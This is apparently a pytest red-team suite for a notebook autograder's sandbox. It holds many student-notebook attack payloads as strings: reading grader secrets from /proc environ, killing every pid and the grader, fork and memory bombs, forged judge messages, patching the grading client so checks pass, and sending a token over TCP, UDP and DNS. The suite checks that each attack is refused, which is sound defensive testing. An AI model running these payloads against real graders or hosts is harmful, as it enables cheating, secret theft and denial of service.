'''

WRITE_PAST_A_QUOTA_IN_THE_SOCKET_FOLDER = FILL + '''
mounts = [line.split()[4] for line in open("/proc/self/mountinfo")]
sockets = [m for m in mounts if m.endswith("/c")]
written = attempt("300 MiB into the kernel's socket folder " + str(sockets),
                  lambda: fill(sockets[0]))
stolen = written == 300
'''

SURVIVE_IN_A_THREAD = '''
late = <<late>>


def linger():
    write("/proc/thread-self/comm", <<comm>>)
    while True:  # a non-daemon thread: the interpreter waits for it at exit
        for path in (late, "/proc/self/root" + late):
            try:
                write(path)
            except OSError:
                pass
        time.sleep(0.2)


threading.Thread(target=linger).start()
ctypes, lib = libc()
print("clear the parent-death signal:", lib.prctl(1, 0, 0, 0, 0), ctypes.get_errno())
'''

SURVIVE_BY_DAEMONIZING = '''
write("/proc/self/comm", <<comm>>)  # the kernel's own name: looked for on the host afterwards
ctypes, lib = libc()


def double_fork():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(10**6)
        os._exit(0)
    return "forked"


attempt("double fork", double_fork)
attempt("setsid", os.setsid)
attempt("setpgid", lambda: os.setpgid(0, 0))
print("clear the parent-death signal:", lib.prctl(1, 0, 0, 0, 0), ctypes.get_errno())
print("become a subreaper:", lib.prctl(36, 1, 0, 0, 0), ctypes.get_errno())
print("ignore SIGTERM, SIGHUP:", M("signal").signal(15, 1), M("signal").signal(1, 1))
threading.Thread(target=lambda: time.sleep(10**6)).start()  # keeps the interpreter from exiting
'''

KILL_EVERYTHING_ELSE = '''
mine, killed = {int(t) for t in os.listdir("/proc/self/task")}, []  # pid 1 and its threads
attempt("kill -1", lambda: os.kill(-1, 9))
for pid in range(1, 1 << 16):
    if pid in mine:
        continue
    try:
        os.kill(pid, 9)
        killed.append(pid)
    except OSError:
        pass
print("DONE killed:", killed)
attempt("kill the canary", lambda: os.kill(<<canary>>, 9))
attempt("killpg the canary", lambda: os.killpg(<<canary>>, 9))
attempt("pidfd of the canary", lambda: os.pidfd_open(<<canary>>))
'''

KILL_THE_GRADER = '''
status = read("/proc/self/status")
ppid = int(status.split("PPid:")[1].split()[0])
worker = int(judge_address().split("course-judge-")[1].split("-")[0])
print("PPid", ppid, "grading worker (from the judge's folder name)", worker)
for pid in {ppid, worker, worker + 1, worker - 1} - {0, os.getpid()}:
    attempt(f"SIGKILL {pid}", lambda: os.kill(pid, 9))
    attempt(f"SIGSTOP {pid}", lambda: os.kill(pid, 19))
    attempt(f"killpg {pid}", lambda: os.killpg(pid, 9))
    attempt(f"pidfd {pid}", lambda: os.pidfd_open(pid))
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    environ = attempt("environ of " + pid, lambda: read(f"/proc/{pid}/environ"))
    if environ and "JPY_PARENT_PID=" in environ:
        parent = int(environ.split("JPY_PARENT_PID=")[1].split("\\0")[0])
        attempt(f"SIGKILL JPY_PARENT_PID {parent}", lambda: os.kill(parent, 9))
'''

PATCH_THE_CLIENT = '''
client = M("importlib").import_module("course_lib.judge.client")
client.run_check = lambda *args, **kwargs: None  # "every check passes"
setattr(M("builtins"), "abs", lambda x: 0)  # and the visible test too
'''

PATCH_THE_GRADING_STUB = '''
types = M("types")
fake = types.ModuleType("course_lib.grading")
fake.__getattr__ = lambda name: (lambda *args, **kwargs: None)
mods = sys.modules
mods.update({"course_lib.grading": fake})
setattr(M("course_lib"), "grading", fake)
setattr(M("builtins"), "abs", lambda x: 0)
'''

PATCH_THE_WIRE = '''
wire = M("importlib").import_module("course_lib.judge.wire")
wire.recv = lambda sock: {"op": "verdict", "passed": True}  # the judge "said" passed
setattr(M("builtins"), "abs", lambda x: 0)
'''

PATCH_THE_EXPERIMENTS = '''
experiments = M("importlib").import_module("course_lib.judge.experiments")
experiments.run_experiment = lambda obj, name, inputs: {"passed": True, "grad": 0.25}
client = M("importlib").import_module("course_lib.judge.client")
client.run_experiment = experiments.run_experiment
'''

PATCH_NUMPY_IN_THE_KERNEL = '''
np_module = M("numpy")
for name in ("allclose", "isclose", "array_equal"):
    setattr(np_module, name, lambda *args, **kwargs: True)
setattr(M("numpy.testing"), "assert_allclose", lambda *args, **kwargs: None)
'''

PATCH_BUILTINS = '''
setattr(M("builtins"), "abs", lambda x: 0)  # the visible assert passes; the hidden check does
# not, and its AssertionError still shows in the cell: no flag needed, 0 points
'''

PATCH_AN_INPUT_TRANSFORMER = '''
shell = get_ipython()
getattr(shell, "input_transformers_" + "cleanup").append(lambda lines: ["pass\\n"])
'''

PATCH_THE_EXCEPTION_HANDLER = '''
shell = get_ipython()
getattr(shell, "set_custom_" + "exc")((AssertionError,), lambda *args, **kwargs: None)
'''

SMUGGLE_FILES = '''
attempt("an html page", lambda: write("99_toy.html", "<script>alert('rt')</script>"))
attempt("feedback.html", lambda: write("feedback.html", "<h1>20/20</h1>"))
attempt("a folder", lambda: os.makedirs("extra/deep") or write("extra/deep/evil.html"))
attempt("a hidden file", lambda: write(".hidden-rt"))
attempt("a link to /etc/passwd", lambda: os.symlink("/etc/passwd", "passwd"))
attempt("a link to the course", lambda: os.symlink(<<course>>, "course"))
attempt("a fifo", lambda: os.mkfifo("fifo"))
attempt("a notebook", lambda: write("extra.ipy" + "nb", "{}"))


def huge():
    with open("huge.bin", "wb") as f:
        while True:  # never ends by itself: only the file-size limit stops it
            f.write(b"x" * (1 << 20))


attempt("a huge file", huge)
'''

ENV_SECRETS = '''
found = [f"{k}={v}" for k, v in os.environ.items() if <<secret>> in v or "postgresql" in v
         or k in ("COURSE_DB_URL", "SECRET_TOKEN")]
for path in ("/proc/self/environ", "/proc/1/environ", "/proc/thread-self/environ"):
    text = attempt("read " + path, lambda: read(path))
    if text and (<<secret>> in text or "postgresql" in text):
        found.append(path)
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for leaf in ("environ", "cmdline"):
        try:
            if <<secret>> in read(f"/proc/{pid}/{leaf}"):
                found.append(f"/proc/{pid}/{leaf}")
        except OSError:
            pass
print("DONE environment keys:", sorted(os.environ))
print("found:", found)  # what a leak would show, value included
stolen = bool(found)
'''

NET_TCP_TO_THE_HOST = '''
so = M("socket")


def tcp(host):
    s = so.create_connection((host, <<tcp_port>>), timeout=5)
    s.sendall(<<token>>.encode())
    return "connected"


stolen = attempt("tcp 127.0.0.1", lambda: tcp("127.0.0.1")) is not None
stolen = attempt("tcp localhost", lambda: tcp("localhost")) is not None or stolen
outside = attempt("tcp 1.1.1.1:53", lambda: so.create_connection(("1.1.1.1", 53), timeout=5))
stolen = stolen or outside is not None
'''

NET_UDP_TO_THE_HOST = '''
so = M("socket")
s = so.socket(so.AF_INET, so.SOCK_DGRAM)
for _ in range(5):
    attempt("udp to the host", lambda: s.sendto(<<token>>.encode(), ("127.0.0.1", <<udp_port>>)))
'''

NET_DNS = '''
so = M("socket")
stolen = attempt("resolve a name", lambda: so.getaddrinfo("example.com", 443)) is not None
over_udp = attempt("resolve over UDP", lambda: so.getaddrinfo("pypi.org", 53, 0, so.SOCK_DGRAM))
stolen = stolen or over_udp is not None
'''

NET_ABSTRACT_UNIX_SOCKET = '''
so = M("socket")


def abstract():
    s = so.socket(so.AF_UNIX, so.SOCK_STREAM)
    s.connect("\\0" + <<abstract>>)
    s.sendall(<<token>>.encode())
    return "connected"


stolen = attempt("connect to the host's abstract socket", abstract) is not None
'''

BOMB_MEMORY = '''
hog = []


def eat():
    while True:  # never ends by itself: only the memory limit stops it
        hog.append(bytearray(1 << 27))


attempt("eat memory", eat)
print("DONE ate MiB:", len(hog) * 128)
hog.clear()
'''

BOMB_THREADS = '''
threads = []
threading.stack_size(1 << 16)  # small stacks: the process limit stops this, not memory


def spawn_threads():
    while True:  # never ends by itself: only the process limit stops it
        t = threading.Thread(target=time.sleep, args=(10**6,), daemon=True)
        t.start()
        threads.append(t)


attempt("start threads", spawn_threads)
print("DONE threads started:", len(threads))
'''

BOMB_FORK = '''
def forks():
    while True:
        os.fork()


attempt("fork bomb", forks)
'''

BOMB_FILE_SIZE = '''
def grow():
    with open("big.bin", "wb") as f:
        while True:  # never ends by itself: only the file-size limit stops it
            f.write(b"x" * (1 << 20))


attempt("one endless file", grow)
print("DONE size MiB:", os.path.getsize("big.bin") >> 20)
os.unlink("big.bin")
'''

WIRE_HELLO_WITH_A_PID = '''
said = attempt("hello with a pid", lambda: send_and_wait(frame({"op": "hello", "pid": 1,
                                                                "kernel_pid": 1})))
'''

WIRE_2GIB_HEADER = '''
said = attempt("a 2 GiB length", lambda: send_and_wait(struct.pack(">Q", 2 << 30) + b"{"))
'''

WIRE_GARBAGE_JSON = '''
body = b"{this is not json" + bytes(range(256))
said = attempt("garbage", lambda: send_and_wait(struct.pack(">Q", len(body)) + body))
'''

WIRE_NOT_AN_OBJECT = '''
body = json.dumps(["op", "check", "check_sigmoid_prime"]).encode()
said = attempt("a JSON list", lambda: send_and_wait(struct.pack(">Q", len(body)) + body))
'''

WIRE_DEEPLY_NESTED_JSON = '''
body = b"[" * 200000 + b"]" * 200000
said = attempt("200000 nested lists", lambda: send_and_wait(struct.pack(">Q", len(body)) + body))
'''

WIRE_THOUSANDS_OF_CONNECTIONS = '''
def flood():
    for _ in range(5200):
        connect().close()
    return send_and_wait(b"")


said = attempt("5200 connections", flood)
'''

WIRE_MORE_THAN_A_GIB = '''
def flood():
    chunk = b" " * (16 << 20)
    for i in range(5):
        s = connect()
        s.sendall(struct.pack(">Q", 256 << 20))
        try:
            for _ in range(16):
                s.sendall(chunk)
            s.settimeout(30)
            s.recv(1)
        except OSError as exc:
            print(f"connection {i}: {exc}")
        s.close()
    return "sent"


said = attempt("1.25 GiB", flood)
'''

WIRE_FORGED_CHECK = '''
def forged_check():
    s = connect()
    s.sendall(frame({"op": "check", "check": "check_sigmoid_prime", "part": "values",
                     "object": "sigmoid_prime"}))
    reply = read_frame(s)
    s.close()
    return reply


reply = attempt("a check from the answer cell", forged_check)
stolen = bool(reply and reply.get("passed"))
'''

WIRE_ODD_NAMES = '''
def forged(check, part):
    s = connect()
    s.sendall(frame({"op": "check", "check": check, "part": part, "object": "x"}))
    reply = read_frame(s)
    s.close()
    return reply


for check, part in (("__class__", "values"), ("check_sigmoid_prime", <<up>> + "all"),
                    ("check_" + "x" * 5000, "values"), ("run_parts", "all")):
    reply = attempt(f"check {check[:20]} part {part}", lambda: forged(check, part))
    stolen = stolen or bool(reply and reply.get("passed"))
for op in ("verdict", "result", "raised", "experiment", "kill"):
    attempt("op " + op, lambda: send_and_wait(frame({"op": op, "passed": True, "pid": 1,
                                                     "value": 0.25})))
'''

WIRE_MADE_UP_ANSWERS_FROM_A_THREAD = '''
base64 = M("base64")
np = M("numpy")
forged_done = threading.Event()


def check_is_running():
    frame_ = sys._current_frames().get(threading.main_thread().ident)
    while frame_ is not None:
        if frame_.f_code.co_name == "run_check":
            return True
        frame_ = frame_.f_back
    return False


def answer_for_the_judge():
    while not check_is_running():
        time.sleep(0.005)
    s = connect()
    s.sendall(frame({"op": "check", "check": "check_sigmoid_prime", "part": "values",
                     "object": "sigmoid_prime"}))
    while True:
        msg = read_frame(s)
        if msg.get("op") != "call":
            print("DONE the forged check's verdict:", msg)
            break
        z = msg["args"]["t"][0]
        shape = z.get("shape", []) if isinstance(z, dict) else []
        made_up = np.full(shape, 0.25)  # what sigmoid_prime "returned"
        s.sendall(frame({"op": "result", "value": {"nd": "<f8", "shape": list(made_up.shape),
                         "b64": base64.b64encode(made_up.tobytes()).decode()}}))
    forged_done.set()


threading.Thread(target=answer_for_the_judge, daemon=True).start()


def sigmoid_prime(z):
    forged_done.wait(20)  # the forged check runs while the real one waits here
    import numpy as np
    return 1 / (1 + np.exp(-np.asarray(z, dtype=float)))
'''

WIRE_HOLD_EVERY_CONNECTION = '''
held = []


def hold():
    while True:  # never ends: the judge takes 4 connections at once; keep them all
        try:
            held.append(connect())
        except OSError:
            time.sleep(0.1)


threading.Thread(target=hold, daemon=True).start()
time.sleep(2)
print("DONE held", len(held))
'''

READ_GRADEBOOK_BY_NAME = '''
data = attempt("open the gradebook", lambda: read(<<course_literal>> + "/gradebook.db"))
stolen = bool(data)
'''

SPAWN_CTYPES_IMPORTED = '''
import ctypes

stolen = attempt("libc system", lambda: ctypes.CDLL(None).system(b"true")) == 0
'''


@dataclass(frozen=True)
class Attack:
    """One row of the table: the submission and its exact outcome."""

    kind: str  # read, spawn, write, survive, kill, wire, patch, smuggle, env, net, bomb
    body: str | Callable[[Target], nbformat.NotebookNode]
    score: float
    status: str
    flag: str | None = None  # words in a flag (status tampered) or else in a note; None: neither
    why: str | None = None  # an error the attack met, as printed in the answer cell
    answer: str | None = None  # RIGHT/WRONG; None: right only if the attack stole it
    before: tuple[str, ...] = ()  # cells ahead of the answer cell
    xfail: str | None = None  # a hole the owner must close (see the reason)

    def make(self, t: Target):
        if callable(self.body):
            return self.body(t)
        return notebook(self.body, t, answer=self.answer, before=self.before)


BLOCKED = (0, NORMAL)
EPERM = "Operation not permitted"
ENOENT = "No such file or directory"
EROFS = "Read-only file system"
ATTACKS: dict[str, Attack] = {
    # -- reading the answers, source/, the gradebook, other students ---------------------
    "read_reference_by_path": Attack("read", READ_BY_PATH, *BLOCKED, why=ENOENT),
    "read_reference_via_proc_root_and_cwd": Attack("read", READ_VIA_PROC, *BLOCKED, why=ENOENT),
    "read_reference_with_dir_fd": Attack("read", READ_WITH_DIR_FD, *BLOCKED, why=ENOENT),
    "read_reference_through_symlinks": Attack("read", READ_THROUGH_SYMLINKS, *BLOCKED,
                                              why=ENOENT),
    "read_reference_spec_from_file_location": Attack("read", READ_SPEC_FROM_FILE, *BLOCKED,
                                                     why=ENOENT),
    "read_reference_through_path_hooks": Attack("read", IMPORT_BY_PATH_HOOKS, *BLOCKED,
                                                why="ModuleNotFoundError"),
    "read_reference_from_the_runtime": Attack("read", IMPORT_FROM_RUNTIME, *BLOCKED,
                                              why="ModuleNotFoundError"),
    "read_source_notebook": Attack("read", READ_SOURCE_NOTEBOOK, *BLOCKED, why=ENOENT),
    "read_gradebook_with_sqlite3": Attack("read", READ_GRADEBOOK_SQLITE, *BLOCKED,
                                          why="unable to open database file"),
    "read_gradebook_by_its_name": Attack(
        "read", lambda t: notebook(READ_GRADEBOOK_BY_NAME, t, course_literal=repr(t.course)),
        *BLOCKED, flag="gradebook", why=ENOENT),
    "read_other_students_work": Attack("read", READ_OTHER_STUDENT, *BLOCKED, why=ENOENT),
    "read_by_walking_the_whole_filesystem": Attack("read", GLOB_THE_FILESYSTEM, *BLOCKED,
                                                   why="DONE walk /: []"),
    "read_proc_of_every_pid": Attack("read", READ_PROC_OF_EVERY_PID, *BLOCKED,
                                     why=f"pids seen: {SANDBOX_PIDS}"),
    "read_the_graders_keyrings": Attack("read", READ_KEYRINGS, *BLOCKED, why=EPERM),
    "read_other_kernels_sockets": Attack("read", READ_OTHER_KERNELS, *BLOCKED,
                                         why="judge.sock"),
    "read_through_inherited_fds": Attack("read", READ_INHERITED_FDS, *BLOCKED,
                                         why="DONE directory fds that lead outside: []"),
    "read_real_torch_where_gradients_are_by_hand": Attack("read", READ_REAL_TORCH, *BLOCKED,
                                                          why="torch is not available"),
    # -- starting programs ---------------------------------------------------------------
    "spawn_subprocess": Attack("spawn", SPAWN_SUBPROCESS, *BLOCKED, why=EPERM),
    "spawn_subprocess_imported": Attack("spawn", SPAWN_SUBPROCESS_IMPORTED, *BLOCKED,
                                        flag="imports subprocess", why=EPERM),
    "spawn_os_system_and_popen": Attack("spawn", SPAWN_OS_SYSTEM, *BLOCKED,
                                        why="DONE os.system: 32512"),
    "spawn_posix_spawn": Attack("spawn", SPAWN_POSIX_SPAWN, *BLOCKED, why=EPERM),
    "spawn_fork_and_forkpty": Attack("spawn", SPAWN_FORK, *BLOCKED, why=EPERM),
    "spawn_multiprocessing": Attack("spawn", SPAWN_MULTIPROCESSING, *BLOCKED, why=EPERM),
    "spawn_from_a_thread": Attack("spawn", SPAWN_FROM_A_THREAD, *BLOCKED, why=EPERM),
    "spawn_ctypes_libc_system_fork_execve": Attack("spawn", SPAWN_CTYPES_LIBC, *BLOCKED,
                                                   why="BLOCKED execve: errno 1"),
    "spawn_ctypes_imported": Attack("spawn", SPAWN_CTYPES_IMPORTED, *BLOCKED,
                                    flag="imports ctypes"),
    "spawn_raw_syscalls_clone_clone3_x32": Attack("spawn", SPAWN_RAW_SYSCALLS, *BLOCKED,
                                                  why="BLOCKED clone (a process): -1 errno 1"),
    "spawn_cell_magics_bash_script_bang": Attack("spawn", SPAWN_CELL_MAGICS_ANSWER, *BLOCKED,
                                                 before=tuple(SPAWN_CELL_MAGICS),
                                                 why="DONE magics left: []"),
    "spawn_asyncio_subprocess": Attack("spawn", SPAWN_ASYNCIO, *BLOCKED, why=EPERM),
    "spawn_by_taking_over_pid_1_via_ptrace_or_proc_mem": Attack(
        "spawn", SPAWN_VIA_PID_1, *BLOCKED,
        # forked: pid 1 is /init, non-dumpable (an execute-only program): /proc/1/* is refused
        why="through /proc/1/mem: PermissionError" if FORKED else "pid 1 is this kernel"),
    # -- writing outside the scratch copy -----------------------------------------------
    "write_into_the_venv": Attack("write", WRITE_INTO_THE_VENV, *BLOCKED, why=EROFS),
    "write_into_the_grading_runtime": Attack("write", WRITE_INTO_THE_RUNTIME, *BLOCKED,
                                             why=EROFS),
    "write_into_the_course_and_the_repo": Attack("write", WRITE_INTO_THE_COURSE, *BLOCKED,
                                                 why=ENOENT),
    "write_into_other_students_folders": Attack("write", WRITE_INTO_OTHER_STUDENTS, *BLOCKED,
                                                why=ENOENT),
    "write_into_the_hosts_tmp": Attack("write", WRITE_INTO_HOST_TMP, *BLOCKED, why="DONE"),
    "write_via_proc_root_dir_fd_and_links": Attack("write", WRITE_VIA_PATH_TRICKS, *BLOCKED,
                                                   why="Invalid cross-device link"),
    "write_into_the_sandbox_root": Attack("write", WRITE_INTO_THE_ROOT, *BLOCKED, why=EROFS),
    "write_into_the_gradebook_with_sqlite3": Attack("write", WRITE_GRADEBOOK_SQLITE, *BLOCKED,
                                                    why="unable to open database file"),
    # the working folder is on the sandbox's size-limited home (256 MiB)
    "write_300mib_into_the_scratch_copy": Attack("write", WRITE_PAST_A_QUOTA_IN_THE_COPY,
                                                 *BLOCKED, why="No space left on device"),
    # the socket folder is on the host's disk, read-only to the kernel once it answers
    "write_300mib_into_the_socket_folder": Attack("write",
                                                  WRITE_PAST_A_QUOTA_IN_THE_SOCKET_FOLDER,
                                                  *BLOCKED, why="Permission denied"),
    # -- outliving the notebook ----------------------------------------------------------
    "survive_thread": Attack("survive", SURVIVE_IN_A_THREAD, 2, NORMAL, answer=RIGHT,
                             why="clear the parent-death signal: -1 1"),
    "survive_by_daemonizing": Attack("survive", SURVIVE_BY_DAEMONIZING, 2, NORMAL, answer=RIGHT,
                                     why="BLOCKED double fork: PermissionError"),
    # -- killing or signalling what is outside -------------------------------------------
    # forked: kill(1, SIGKILL) returns 0, but a namespace's init ignores what its namespace
    # sends it: /init lives on, and with it the kernel (the notebook scores normally)
    "kill_every_pid": Attack("kill", KILL_EVERYTHING_ELSE, 2, NORMAL, answer=RIGHT,
                             why="DONE killed: [1]" if FORKED else "DONE killed: []"),
    "kill_the_grading_process": Attack("kill", KILL_THE_GRADER, 2, NORMAL, answer=RIGHT,
                                       why="No such process"),
    # -- forged or oversized messages to the judge ---------------------------------------
    "wire_hello_with_a_pid": Attack("wire", WIRE_HELLO_WITH_A_PID, 0, "tampered",
                                    flag="'hello' is not a request"),
    "wire_2gib_length_header": Attack("wire", WIRE_2GIB_HEADER, 0, "tampered",
                                      flag="frame of 2147483648 bytes"),
    "wire_garbage_json": Attack("wire", WIRE_GARBAGE_JSON, 0, "tampered",
                                flag="malformed message"),
    "wire_json_that_is_not_an_object": Attack("wire", WIRE_NOT_AN_OBJECT, 0, "tampered",
                                              flag="must hold a JSON object"),
    "wire_deeply_nested_json": Attack("wire", WIRE_DEEPLY_NESTED_JSON, 0, "tampered",
                                      flag="more than 100000 JSON objects"),
    "wire_thousands_of_connections": Attack("wire", WIRE_THOUSANDS_OF_CONNECTIONS, 0,
                                            "tampered", flag="more than 5000 connections"),
    # its 256 MiB frames are refused one by one (MAX_FRAME); test_judge.py attacks the
    # budget of bytes per submission with frames under that size
    "wire_more_than_a_gib": Attack("wire", WIRE_MORE_THAN_A_GIB, 0, "tampered",
                                   flag="is larger than 67108864"),
    "wire_forged_check_from_the_answer_cell": Attack("wire", WIRE_FORGED_CHECK, 0, "tampered",
                                                     flag="called outside its test cell"),
    "wire_checks_and_ops_with_odd_names": Attack("wire", WIRE_ODD_NAMES, 0, "tampered",
                                                 flag="'verdict' is not a request"),
    "wire_made_up_answers_from_a_thread": Attack("wire", WIRE_MADE_UP_ANSWERS_FROM_A_THREAD,
                                                 *BLOCKED, answer="",
                                                 why="the forged check's verdict"),
    # -- patching the kernel side -------------------------------------------------------
    "patch_the_judge_client": Attack("patch", PATCH_THE_CLIENT, 0, "tampered",
                                     flag="never reached the grader", answer=WRONG),
    "patch_the_grading_stub": Attack("patch", PATCH_THE_GRADING_STUB, 0, "tampered",
                                     flag="never reached the grader", answer=WRONG),
    "patch_the_wire": Attack("patch", PATCH_THE_WIRE, 0, "tampered",
                             flag="showed no error, but its hidden test failed", answer=WRONG),
    "patch_the_experiments": Attack("patch", PATCH_THE_EXPERIMENTS, *BLOCKED, answer=WRONG),
    "patch_numpy_in_the_kernel": Attack("patch", PATCH_NUMPY_IN_THE_KERNEL, *BLOCKED,
                                        answer=WRONG),
    "patch_builtins_abs": Attack("patch", PATCH_BUILTINS, *BLOCKED, answer=WRONG),
    "patch_an_input_transformer": Attack("patch", PATCH_AN_INPUT_TRANSFORMER, 0, "tampered",
                                         flag="never reached the grader", answer=WRONG),
    "patch_the_exception_handler": Attack("patch", PATCH_THE_EXCEPTION_HANDLER, *BLOCKED,
                                          answer=WRONG),
    # -- files smuggled into feedback ----------------------------------------------------
    "smuggle_files_into_feedback": Attack("smuggle", SMUGGLE_FILES, 2, NORMAL, answer=RIGHT,
                                          why="File too large"),
    # -- secrets in the grader's environment ---------------------------------------------
    "env_secrets_of_the_grader": Attack("env", ENV_SECRETS, *BLOCKED,
                                        why="DONE environment keys"),
    # -- network --------------------------------------------------------------------------
    "net_tcp_to_a_port_of_the_host": Attack("net", NET_TCP_TO_THE_HOST, *BLOCKED,
                                            why="Connection refused"),
    "net_udp_to_a_port_of_the_host": Attack("net", NET_UDP_TO_THE_HOST, *BLOCKED),
    "net_dns": Attack("net", NET_DNS, *BLOCKED, why="BLOCKED resolve a name"),
    "net_abstract_unix_socket_of_the_host": Attack("net", NET_ABSTRACT_UNIX_SOCKET, *BLOCKED,
                                                   why="Connection refused"),
    # -- bombs: a status, never a broken grader ------------------------------------------
    "bomb_memory": Attack("bomb", BOMB_MEMORY, 2, NORMAL, answer=RIGHT, why="MemoryError"),
    "bomb_threads": Attack("bomb", BOMB_THREADS, 2, NORMAL, answer=RIGHT,
                           why="can't start new thread"),
    "bomb_fork": Attack("bomb", BOMB_FORK, 2, NORMAL, answer=RIGHT, why=EPERM),
    "bomb_file_size": Attack("bomb", BOMB_FILE_SIZE, 2, NORMAL, answer=RIGHT,
                             why="File too large"),
}

# Honest students, placed alphabetically between the attackers' groups (grading
# runs in name order on two workers, so each follows attackers in the same worker).
HONEST = {"bomb_zz_honest_right": RIGHT, "env_zz_honest_wrong": WRONG,
          "kill_zz_honest_right": RIGHT, "net_zz_honest_wrong": WRONG,
          "patch_zz_honest_right": RIGHT, "read_zz_honest_wrong": WRONG,
          "smuggle_zz_honest_right": RIGHT, "spawn_zz_honest_wrong": WRONG,
          "survive_zz_honest_right": RIGHT, "wire_zz_honest_wrong": WRONG,
          "write_zz_honest_right": RIGHT, "zz_honest_wrong": WRONG}
VICTIM = min(n for n in HONEST if n.endswith("right"))  # graded before the readers
LATE_VICTIM = max(HONEST)  # graded after every attacker


# -- the class, graded once --------------------------------------------------------------------

@dataclass
class Listeners:
    """Sockets of the host that no notebook may reach."""

    tcp: socket.socket
    udp: socket.socket
    abstract: socket.socket
    reached: list = field(default_factory=list)

    def serve(self, sock, what):
        def accept():
            while True:
                try:
                    conn, _ = sock.accept()
                except OSError:
                    return
                self.reached.append(what)
                conn.close()
        threading.Thread(target=accept, daemon=True).start()

    def datagrams(self) -> list[bytes]:
        self.udp.setblocking(False)
        got = []
        while True:
            try:
                got.append(self.udp.recv(65536))
            except BlockingIOError:
                return got

    def close(self):
        for s in (self.tcp, self.udp, self.abstract):
            s.close()


def _listeners(token: str) -> Listeners:
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(16)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract.bind("\0rt-" + token)
    abstract.listen(16)
    listeners = Listeners(tcp, udp, abstract)
    listeners.serve(tcp, "tcp")
    listeners.serve(abstract, "abstract")
    return listeners


def _digests(folder: Path) -> dict:
    return {p.relative_to(folder): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _host_tasks() -> list[tuple[int, str, str]]:
    """(pid, comm of each thread, cmdline) of every process on the host."""
    out = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(
                errors="replace")
            comms = " ".join(Path(f"/proc/{pid}/task/{tid}/comm").read_text().strip()
                             for tid in os.listdir(f"/proc/{pid}/task"))
        except OSError:
            continue
        out.append((int(pid), comms, cmdline))
    return out


def _leftovers(t: Target, workers: set[int]) -> list[tuple[int, str, str]]:
    """Processes our attacks left on the host: one with an attack's marker (a thread
    name, the argument of a `sleep`), or a grading kernel or bwrap of one of our
    grading workers (all gone by now)."""
    found = []
    for pid, comms, cmdline in _host_tasks():
        owner = re.search(r"course-judge-(\d+)-", cmdline)
        if t.comm in comms or t.sleeper in cmdline or t.token in cmdline or (
                owner and int(owner.group(1)) in workers):
            found.append((pid, comms, cmdline))
    return found


class WorkerWatch:
    """The pids of this process's children while grading runs (the grading workers)."""

    def __init__(self):
        import psutil

        self.pids: set[int] = set()
        self._me, self._stop = psutil.Process(), threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)

    def _watch(self):
        while not self._stop.is_set():
            self.pids |= {c.pid for c in self._me.children()}
            time.sleep(0.2)

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *exc):
        self._stop.set()
        self._thread.join()


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    token = uuid.uuid4().hex[:12]
    course = make_course(tmp_path_factory.mktemp("attacks") / "course", timeout=120)
    config = course / "nbgrader_config.py"
    config.write_text(config.read_text() + "\nc.Judge.notebook_timeout = 60\n"
                      "c.Judge.manual_gradient_assignments = ['99_toy']\n"
                      "c.Judge.kernel_memory_mb = 2048\n"
                      "# the environment holds a (fake) database URL: this course keeps SQLite\n"
                      "c.CourseDirectory.db_url = 'sqlite:///' + "
                      "os.path.join(c.CourseDirectory.root, 'gradebook.db')\n")
    listeners = _listeners(token)
    canary = subprocess.Popen(["sleep", "100000"])
    secret = f"{SECRET_SHAPE}{token}"
    t = Target(course=str(course), repo=str(REPO), token=token, victim=VICTIM,
               late_victim=LATE_VICTIM, tcp_port=listeners.tcp.getsockname()[1],
               udp_port=listeners.udp.getsockname()[1], abstract="rt-" + token, secret=secret,
               canary=canary.pid)
    for student, attack in ATTACKS.items():
        hand_in(course, student, attack.make(t))
    for student, answer in HONEST.items():
        hand_in(course, student, submission(answer))
    before = _digests(course / "submitted")
    workers = WorkerWatch()
    try:
        with pytest.MonkeyPatch.context() as mp:
            mp.delenv("COURSE_UNSEALED", raising=False)
            mp.setenv("COURSE_DB_URL", f"postgresql://grader:{secret}@db.example/backprop")
            mp.setenv("SECRET_TOKEN", secret)
            started = time.monotonic()
            with WorkerWatch() as workers:
                results = {r.student: r for r in grade_class(course, jobs=2, feedback=True)}
            print(f"graded {len(results)} submissions in {time.monotonic() - started:.0f} s")
        time.sleep(1)  # anything that outlives grading is still there a second later
        leftovers = _leftovers(t, workers.pids)
        canary_alive = canary.poll() is None
        yield course, results, before, t, listeners, leftovers, canary_alive
    finally:
        for pid, *_ in _leftovers(t, workers.pids):  # only what our own attacks left
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        canary.kill()
        canary.wait()
        listeners.close()


def _answer_output(course: Path, student: str) -> str:
    path = graded_path(course, student)
    if not path.is_file():
        return ""
    nb = nbformat.read(str(path), as_version=4)
    cells = [c for c in nb.cells if c.cell_type == "code"]
    return "\n".join(o.get("text", "") + o.get("evalue", "")
                     for c in cells for o in c.get("outputs", []))


def _params():
    return [pytest.param(name, marks=pytest.mark.xfail(strict=True, reason=a.xfail))
            if a.xfail else name for name, a in ATTACKS.items()]


@pytest.mark.kernel
@pytest.mark.parametrize("student", _params())
def test_each_attack_gets_exactly_its_score_status_and_flag(graded, student):
    course, results, *_ = graded
    attack, r = ATTACKS[student], results[student]
    assert (r.score, r.status) == (attack.score, attack.status), (r.reason, r.flags, r.messages,
                                                                  _answer_output(course, student))
    if attack.flag is None:
        assert r.flags == [], r.flags
    elif attack.status == "tampered":
        assert any(attack.flag in f for f in r.flags), r.flags
    else:  # what the tamper reader saw is a note: the sandbox, not the reader, held
        assert r.flags == [] and any(attack.flag in n for n in r.notes), (r.flags, r.notes)
    assert getattr(r, "sealed", True)


@pytest.mark.kernel
@pytest.mark.parametrize("student", [n for n, a in ATTACKS.items() if a.why])
def test_each_attack_was_refused_by_the_system_not_by_a_typo(graded, student):
    """The answer cell's output shows the error the sandbox gave (or what the attack saw)."""
